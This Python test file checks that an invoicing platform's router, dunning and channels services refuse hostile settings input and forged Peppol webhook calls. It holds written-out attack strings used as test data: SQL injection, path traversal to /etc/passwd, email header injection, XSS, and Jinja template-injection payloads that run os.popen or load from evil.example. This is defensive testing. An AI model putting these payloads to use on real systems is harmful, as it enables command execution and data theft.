"""Hostile input on the tenant-facing settings: router's customers, dunning's strategies and assignments,
channels' branding, templates and sender domain. Every case is refused with a 4xx problem+json; nothing is
stored or published; the service stays healthy; and channels' signed Peppol webhook refuses forged, stale
or malformed deliveries. (Line breaks in a subject template or a sender name are
not refused: channels folds every header value to one line when it writes the message.)"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time

from .conftest import BODY_TIMEOUT, Case, json_body_cases  # noqa: TID252

CUSTOMER = {"name": "Client SAS", "channels": ["email_link"], "contacts": [{"email": "ap@client.example"}]}


def customer(**change) -> dict:
    return {"json": {**CUSTOMER, **change}}


ROUTER_CASES = [
    *json_body_cases("customer", "PUT", "/v1/customers/C-1", lambda ctx: dict(CUSTOMER), text_field="name"),
    Case("customer-bad-email", "PUT", "/v1/customers/C-1", lambda ctx: customer(contacts=[{"email": "not-an-email"}]),
         422, pointer="/contacts/0/email"),
    Case("customer-email-header-injection", "PUT", "/v1/customers/C-1",
         lambda ctx: customer(contacts=[{"email": "ap@client.example\r\nBcc: all@evil.example"}]), 422,
         pointer="/contacts/0/email"),
    Case("customer-duplicate-contact", "PUT", "/v1/customers/C-1", lambda ctx: customer(
        contacts=[{"email": "ap@client.example"}, {"email": "AP@client.example"}]), 422, pointer="/contacts/1/email"),
    Case("customer-unknown-channel", "PUT", "/v1/customers/C-1", lambda ctx: customer(channels=["carrier_pigeon"]),
         422, pointer="/channels/0"),
    Case("customer-no-contact", "PUT", "/v1/customers/C-1", lambda ctx: customer(contacts=[]), 422,
         pointer="/contacts"),
    Case("customer-21-contacts", "PUT", "/v1/customers/C-1", lambda ctx: customer(
        contacts=[{"email": f"ap{n}@client.example"} for n in range(21)]), 422, pointer="/contacts"),
    Case("customer-unknown-zone", "PUT", "/v1/customers/C-1", lambda ctx: customer(timezone="Mars/Olympus"), 422,
         pointer="/timezone"),
    Case("customer-zone-path-traversal", "PUT", "/v1/customers/C-1",
         lambda ctx: customer(timezone="../../../etc/passwd"), 422, pointer="/timezone"),
    Case("customer-unknown-language", "PUT", "/v1/customers/C-1", lambda ctx: customer(language="klingon"), 422,
         pointer="/language"),
    Case("customer-unknown-field", "PUT", "/v1/customers/C-1", lambda ctx: customer(tenant_id="someone-else"), 422,
         pointer="/tenant_id"),
    Case("customer-ref-traversal", "PUT", "/v1/customers/..%2F..%2Fadmin", lambda ctx: customer()),
    Case("customer-ref-too-long", "PUT", "/v1/customers/" + "C" * 300, lambda ctx: customer(), 422),
    Case("customer-list-limit-negative", "GET", "/v1/customers", lambda ctx: {"params": {"limit": -1}}, 422),
    Case("customer-list-cursor-garbage", "GET", "/v1/customers", lambda ctx: {"params": {"cursor": "%%%not-base64"}},
         422),
]


async def test_router_refuses_hostile_customers(run_service, tenant_key, attack):
    router = await run_service("router", **BODY_TIMEOUT)
    await attack(router, await tenant_key(router), ROUTER_CASES)


STEP = {"name": "first", "anchor": "due_date", "offset_days": 5, "action": {"kind": "reminder", "template": "late"}}
STRATEGY = {"id": "gentle", "name": "Gentle", "steps": [STEP]}


def strategy(**change) -> dict:
    return {"json": {**STRATEGY, **change}}


DUNNING_CASES = [
    *json_body_cases("strategy", "POST", "/v1/strategies", lambda ctx: {**STRATEGY, "steps": [dict(STEP)]},
                     text_field="name"),
    Case("strategy-unknown-anchor", "POST", "/v1/strategies", lambda ctx: strategy(steps=[{**STEP, "anchor": "never"}]),
         422, pointer="/steps/0/anchor"),
    Case("strategy-offset-out-of-range", "POST", "/v1/strategies",
         lambda ctx: strategy(steps=[{**STEP, "offset_days": 100_000}]), 422, pointer="/steps/0/offset_days"),
    Case("strategy-no-step", "POST", "/v1/strategies", lambda ctx: strategy(steps=[]), 422, pointer="/steps"),
    Case("strategy-31-steps", "POST", "/v1/strategies",
         lambda ctx: strategy(steps=[{**STEP, "name": f"s{n}"} for n in range(31)]), 422, pointer="/steps"),
    Case("strategy-duplicate-steps", "POST", "/v1/strategies", lambda ctx: strategy(steps=[STEP, STEP]), 422),
    Case("strategy-bad-id", "POST", "/v1/strategies", lambda ctx: strategy(id="../default"), 422, pointer="/id"),
    Case("strategy-overwrite-default", "POST", "/v1/strategies", lambda ctx: strategy(id="default"), 409),
    Case("strategy-step-name-injection", "POST", "/v1/strategies",
         lambda ctx: strategy(steps=[{**STEP, "name": "x'; DROP TABLE strategies;--"}]), 422, pointer="/steps/0/name"),
    Case("strategy-unknown-action", "POST", "/v1/strategies",
         lambda ctx: strategy(steps=[{**STEP, "action": {"kind": "rm -rf"}}]), 422, pointer="/steps/0/action"),
    Case("strategy-version-of-nothing", "POST", "/v1/strategies/nope/versions",
         lambda ctx: {"json": {"name": "x", "steps": [STEP]}}, 404),
    Case("assignment-unknown-strategy", "PUT", "/v1/assignments/groups/smb", lambda ctx: {"json": {"strategy_id": "nope"}},
         422),
    Case("simulate-due-before-issue", "POST", "/v1/strategies/default/simulate", lambda ctx: {"json": {"invoice": {
        "issue_date": "2026-12-01", "due_date": "2026-11-01", "amount": "100.00"}}}, 422),
    Case("simulate-negative-amount", "POST", "/v1/strategies/default/simulate", lambda ctx: {"json": {"invoice": {
        "issue_date": "2026-12-01", "due_date": "2026-12-31", "amount": "-100.00"}}}, 422, pointer="/invoice/amount"),
    Case("simulate-year-10000", "POST", "/v1/strategies/default/simulate", lambda ctx: {"json": {"invoice": {
        "issue_date": "9999-12-01", "due_date": "9999-12-31", "amount": "100.00"}}}, 422),
    Case("simulate-201-events", "POST", "/v1/strategies/default/simulate", lambda ctx: {"json": {
        "invoice": {"issue_date": "2026-12-01", "due_date": "2026-12-31", "amount": "100.00"},
        "events": [{"at": "2027-01-06T09:00:00Z", "kind": "disputed"}] * 201}}, 422, pointer="/events"),
    Case("customer-dunning-unknown-zone", "PUT", "/v1/customers/C-1/dunning",
         lambda ctx: {"json": {"timezone": "Mars/Olympus"}}, 422),
]


async def test_dunning_refuses_hostile_strategies(run_service, tenant_key, attack):
    dunning = await run_service("dunning", **BODY_TIMEOUT)
    await attack(dunning, await tenant_key(dunning), DUNNING_CASES)


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
BRANDING = {"name": "ACME Services", "primary_color": "#0b7285", "signature": "Billing"}


def branding(**change) -> dict:
    return {"json": {**BRANDING, **change}}


def template(source: str, part: str = "subject") -> Case:
    return Case(f"template-{part}-{abs(hash(source)) % 10_000}", "PUT", f"/v1/templates/fr/{part}",
                lambda ctx: {"json": {"source": source}}, 422)


SSTI = ["{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self._TemplateReference__context }}", "{% for x in range(10**9) %}x{% endfor %}",
        "{{ number", "{% include '/etc/passwd' %}", "{% extends 'http://evil.example/t.j2' %}",
        "{{ config }}{{ request.application }}", "{{ lipsum.__globals__ }}", "{% import os %}"]

CHANNELS_CASES = [
    *json_body_cases("branding", "PUT", "/v1/branding", lambda ctx: dict(BRANDING), text_field="name"),
    *json_body_cases("template", "PUT", "/v1/templates/fr/subject", lambda ctx: {"source": "Facture {{ number }}"},
                     text_field="source"),
    Case("branding-bad-color", "PUT", "/v1/branding", lambda ctx: branding(primary_color="red;background:url(x)"), 422,
         pointer="/primary_color"),
    Case("branding-http-logo", "PUT", "/v1/branding", lambda ctx: branding(logo_url="http://cdn.example/logo.png"), 422,
         pointer="/logo_url"),
    Case("branding-javascript-logo", "PUT", "/v1/branding", lambda ctx: branding(logo_url="javascript:alert(1)"), 422,
         pointer="/logo_url"),
    Case("branding-svg-logo", "PUT", "/v1/branding", lambda ctx: branding(logo={
        "media_type": "image/svg+xml", "data": base64.b64encode(b"<svg onload='alert(1)'/>").decode()}), 422),
    Case("branding-logo-not-png", "PUT", "/v1/branding", lambda ctx: branding(logo={
        "media_type": "image/png", "data": base64.b64encode(b"MZ\x90\x00 not a png").decode()}), 422),
    Case("branding-logo-bad-base64", "PUT", "/v1/branding", lambda ctx: branding(logo={
        "media_type": "image/png", "data": "!!!not base64!!!"}), 422),
    Case("branding-logo-too-big", "PUT", "/v1/branding", lambda ctx: branding(logo={
        "media_type": "image/png", "data": base64.b64encode(PNG + b"\0" * 3_000_000).decode()}), None),
    *[template(source) for source in SSTI],
    template("<script>alert(1)</script>{{ numbr.x.y }}", "body_html"),
    Case("template-unknown-language", "PUT", "/v1/templates/xx/subject", lambda ctx: {"json": {"source": "x"}}, 422),
    Case("template-unknown-part", "PUT", "/v1/templates/fr/headers", lambda ctx: {"json": {"source": "x"}}, 422),
    Case("sender-domain-not-a-domain", "PUT", "/v1/sender-domain",
         lambda ctx: {"json": {"domain": "-evil-", "from_address": "a@b.example"}}, 422, pointer="/domain"),
    Case("sender-domain-other-from", "PUT", "/v1/sender-domain",
         lambda ctx: {"json": {"domain": "acme.example", "from_address": "ceo@bank.example"}}, 422),
]


HOOK_SECRET = "peppol-hook-secret"
AP_EVENT = {"id": "EV-1", "transmission_id": "TX-unknown", "type": "transport.receipt", "at": "2026-11-28T10:00:00Z"}


def peppol_signed(body: bytes | dict, *, secret: str = HOOK_SECRET, at: float | None = None,
                  header: str | None = None) -> dict:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    stamp = int(at if at is not None else time.time())
    mac = hmac.new(secret.encode(), f"{stamp}.".encode() + content, hashlib.sha256).hexdigest()
    return {"content": content, "headers": {"Content-Type": "application/json",
                                            "X-Peppol-Signature": header or f"t={stamp},v1={mac}"}}


def peppol_case(name: str, build, status: int) -> Case:
    return Case(f"peppol-webhook-{name}", "POST", "/v1/peppol/events", build, status)


PEPPOL_WEBHOOK_CASES = [
    peppol_case("unsigned", lambda ctx: {"json": AP_EVENT}, 401),
    peppol_case("forged", lambda ctx: peppol_signed(AP_EVENT, secret="guessed"), 401),
    peppol_case("stale", lambda ctx: peppol_signed(AP_EVENT, at=time.time() - 3600), 401),
    peppol_case("future", lambda ctx: peppol_signed(AP_EVENT, at=time.time() + 3600), 401),
    peppol_case("malformed-header", lambda ctx: peppol_signed(AP_EVENT, header="t=yesterday,v1=zz"), 401),
    peppol_case("other-body", lambda ctx: {**peppol_signed(AP_EVENT), "content": json.dumps(
        {**AP_EVENT, "type": "transport.failed"}).encode()}, 401),
    peppol_case("not-json", lambda ctx: peppol_signed(b"{nope"), 400),
    peppol_case("not-an-event", lambda ctx: peppol_signed({"hello": "world"}), 422),
    peppol_case("unknown-transmission", lambda ctx: peppol_signed(AP_EVENT), 404),
    peppol_case("oversize", lambda ctx: peppol_signed({**AP_EVENT, "reason": "x" * 300_000}), 413),
]


async def test_channels_refuses_hostile_branding_and_templates(run_service, tenant_key, attack):
    channels = await run_service("channels", peppol={"webhook_secret": HOOK_SECRET}, **BODY_TIMEOUT)
    await attack(channels, await tenant_key(channels), CHANNELS_CASES + PEPPOL_WEBHOOK_CASES)
